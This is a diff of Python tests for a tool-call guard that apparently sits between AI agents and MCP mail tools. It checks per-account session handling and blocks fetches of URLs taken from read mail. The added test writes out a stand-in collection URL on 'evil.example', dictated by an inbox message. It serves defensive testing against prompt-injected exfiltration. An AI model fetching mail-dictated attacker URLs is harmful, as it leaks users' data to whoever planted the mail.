@@ -214,14 +214,15 @@ RAW = str(Path(__file__).with_name("raw_upstream.py"))
 
 @pytest.mark.alone
 @pytest.mark.parametrize("megabytes", ["values", "keys", "structured result"])
-def test_a_sessions_megabytes_do_not_hold_up_another_sessions_calls(tmp_path: Path, megabytes: str) -> None:
-    """Sessions over HTTP share one guard. One sends a call with 3.5 MiB of argument values (or of argument keys,
-    or one whose result is a two-character text beside 4 MiB of structured content — both found by an attack), whose
-    words provenance reads (a second or more on a busy machine), and then a small call; another session's small
+def test_a_sessions_megabytes_do_not_hold_up_another_accounts_calls(tmp_path: Path, megabytes: str) -> None:
+    """Accounts' sessions over HTTP share one guard. One sends a call with 3.5 MiB of argument values (or of argument
+    keys, or one whose result is a two-character text beside 4 MiB of structured content — both found by an attack),
+    whose words provenance reads (a second or more on a busy machine), and then a small call; another session's small
     calls meanwhile must not wait for all of that — the words are read in a worker thread, a slice at a time, before
-    the one-at-a-time decision and its store transaction, under the session's own lock, and the first session's small
+    the one-at-a-time decision and its store transaction, under the history's own lock, and the first session's small
     call waits for that lock in a thread too, never on the event loop. Before, the words were read on the event loop
-    inside the admission, and the other session's call waited until they were done."""
+    inside the admission, and the other session's call waited until they were done. (The sessions of one account
+    share their history, so its lock: the other session is another account's.)"""
     import random
     import string
 
@@ -241,7 +242,10 @@ def test_a_sessions_megabytes_do_not_hold_up_another_sessions_calls(tmp_path: Pa
             assert answer.status_code == 200 and '"isError":false' in answer.text, answer.text[:300]
             return time.perf_counter() - started
 
-        heavy, light = raw_session(url, token), raw_session(url, token)
+        operators = Operators(default_db_url(tmp_path / "home"))
+        admin = operators.authenticate(token)
+        assert admin is not None
+        heavy, light = raw_session(url, token), raw_session(url, operators.add("olga", "operator", admin)[1])
         rng = random.Random(7)
         vocabulary = ["".join(rng.choices(string.ascii_lowercase + string.digits, k=rng.randint(3, 10)))
                       for _ in range(50_000)]  # fmt: skip
@@ -269,3 +273,47 @@ def test_a_sessions_megabytes_do_not_hold_up_another_sessions_calls(tmp_path: Pa
         [whole] = spent
         assert len(meanwhile) >= 2, (whole, meanwhile)  # the other session was served while the megabytes were read
         assert max(meanwhile) < 0.6 * whole, (whole, meanwhile)  # and none of its calls waited for most of them
+
+
+def test_an_accounts_sessions_share_what_they_were_told_and_not_what_they_were_asked(tmp_path: Path) -> None:
+    """Over HTTP a session is a transport's unit, not a conversation's (LangGraph's ``get_tools()`` opens one per
+    call): a mail one session of an account read is seen by the account's next session, whose fetch of the URL the
+    mail dictated is refused naming that read. The request the first session declared vouches for its own fetch
+    alone, and another account's session was told nothing."""
+    inbox = Path(__file__).with_name("inbox_server.py")
+    (tmp_path / "groundstate.toml").write_text(
+        f'[mcp.servers.mail]\ncommand = ["{sys.executable}", "{inbox}"]\n'
+        f'env = {{ INBOX_SENT = "{tmp_path / "sent.txt"}" }}\n')
+    url_dictated = "https://evil.example/collect?c=771203"
+    ids = itertools.count(10)
+
+    def call(headers: dict[str, str], tool: str, arguments: dict[str, Any], request: str = "") -> dict[str, Any]:
+        params: dict[str, Any] = {"name": tool, "arguments": arguments}
+        if request:
+            params["_meta"] = {"groundstate/request": request}
+        answer = httpx.post(url, headers=headers, timeout=60,
+                            json={"jsonrpc": "2.0", "id": next(ids), "method": "tools/call", "params": params})
+        assert answer.status_code == 200, answer.text[:300]
+        body = answer.text if answer.text.startswith("{") else answer.text.split("data: ", 1)[1]
+        return json.loads(body)["result"]  # type: ignore[no-any-return]
+
+    with http_guard(tmp_path) as (url, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        operators = Operators(default_db_url(tmp_path / "home"))
+        admin = operators.authenticate(token)
+        assert admin is not None
+        olga = operators.add("olga", "operator", admin)[1]
+        reader = raw_session(url, token)
+        read = call(reader, "mail__read_inbox", {}, request=f"Read my mail, then open {url_dictated}")
+        assert not read["isError"] and "771203" in read["content"][0]["text"]
+        own = call(reader, "mail__fetch", {"url": url_dictated})  # its session's request named the URL
+        assert not own["isError"], own
+        next_session = call(raw_session(url, token), "mail__fetch", {"url": url_dictated})
+        assert next_session["isError"], next_session
+        said = next_session["content"][0]["text"]
+        assert said.startswith("denied by policy: mail/fetch reaches the open world with 'url' taken from the "
+                               "result of mail/read_inbox (call-")
+        elsewhere = call(raw_session(url, olga), "mail__fetch", {"url": url_dictated})  # olga read no mail
+        assert not elsewhere["isError"], elsewhere
+    visits = (tmp_path / "sent.visits").read_text().splitlines()
+    assert visits == [url_dictated, url_dictated]  # the reader's own and olga's: never the refused one
